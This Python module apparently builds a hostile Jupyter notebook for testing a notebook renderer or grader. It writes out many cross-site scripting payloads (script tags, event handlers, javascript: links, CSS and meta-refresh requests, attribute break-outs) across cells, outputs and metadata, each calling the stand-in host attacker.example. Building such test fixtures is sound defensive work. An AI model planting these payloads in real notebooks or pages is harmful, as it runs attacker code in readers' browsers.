"""A submission that attacks whoever reads it: every way that a notebook has to bring a script or a request into a page."""

from __future__ import annotations

from typing import Any

from nbformat import NotebookNode, v4

MARK = "underhoodAttack"  # what a script that ran leaves on `window`
HOST = "http://attacker.example"  # whom a request that was made has asked
RUN = f"window.{MARK}=1;new Image().src='{HOST}/ran'"

HTML = (
    f"<script>{RUN}</script>",
    f"<script src='{HOST}/script.js'></script>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src='{HOST}/pixel.png'>",
    f'<svg onload="{RUN}"><circle r="4"/></svg>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><iframe src="{HOST}/frame"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
    f"<style>@import url({HOST}/style.css); body {{ background: url({HOST}/back.png) }}</style>",
    f"<b style='background-image: url({HOST}/inline.png); position: fixed; inset: 0'>cover</b>",
    f"<link rel='stylesheet' href='{HOST}/link.css'><link rel='dns-prefetch' href='//attacker.example'>",
    f"<meta http-equiv='refresh' content='0; url={HOST}/refresh'>",
    f"<base href='{HOST}/'>",
    f"<form action='{HOST}/form'><input name='score' autofocus onfocus=\"{RUN}\"></form>",
    f"<a id='bait' href=\"javascript:{RUN}\">a link</a>",
    f"<object data='{HOST}/object'></object><embed src='{HOST}/embed'><video src='{HOST}/video' autoplay></video>",
)
MARKDOWN = (
    *HTML,
    f"![pixel]({HOST}/markdown.png)",
    f"[link](javascript:{RUN.replace(' ', '%20')})",
    f"```\ncode\n```\n<script>{RUN}</script>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\unicode{{<script>{RUN}</script>}}",
    f"![attached](attachment:a.svg)\n\n<script>{RUN}</script>",
)


def output(kind: str, data: dict[str, Any], metadata: dict[str, Any] | None = None) -> NotebookNode:
    return v4.new_output(kind, data=data, metadata=metadata or {})


def attack(notebook: NotebookNode) -> NotebookNode:
    """The notebook with all attacks in it, in its own cells and beside them; changed in place."""
    png = "iVBORw0KGgo="
    outputs = [output("display_data", {"text/html": html, "text/plain": html}) for html in HTML]
    outputs += [
        output("display_data", {"application/javascript": RUN}),
        output("display_data", {"text/html": f"<script>{RUN}</script>"}, {"text/html": {"isolated": True}}),
        output("display_data", {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'}),
        output("display_data", {"text/markdown": f"<script>{RUN}</script> ![pixel]({HOST}/out.png)"}),
        output("display_data", {"text/latex": f"$$\\href{{javascript:{RUN}}}{{x}}$$</div><script>{RUN}</script>"}),
        output("display_data", {"text/vnd.mermaid": f"graph TD; A[<img src={HOST}/mermaid.png>]"}),
        output("display_data", {"image/png": png}, {"image/png": {"width": f"1 onerror={MARK}=1 onload={MARK}=1"}}),
        output("display_data", {"image/png": f'"><script>{RUN}</script>'}),
        output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2}}),
        v4.new_output("stream", text=f"<script>{RUN}</script>\x1b[31m<img src=x onerror={MARK}=1>\x1b[0m"),
        v4.new_output("error", ename=f"<script>{RUN}</script>", evalue="", traceback=[f"<script>{RUN}</script>"]),
    ]
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = outputs
            break
    break_out = f'x"><script>{RUN}</script>'
    facts = {"grade": True, "solution": True, "locked": False, "points": 1, "schema_version": 3, "task": False}
    notebook.cells += [
        *(v4.new_markdown_cell(text) for text in MARKDOWN),
        *(v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in HTML),
        v4.new_code_cell(
            "1", metadata={"nbgrader": {**facts, "grade_id": break_out}, "tags": [break_out]}, outputs=outputs
        ),
        v4.new_markdown_cell(f"<script>{RUN}</script>", metadata={"nbgrader": {**facts, "grade_id": "mine"}}),
    ]
    notebook.metadata["title"] = break_out
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return notebook
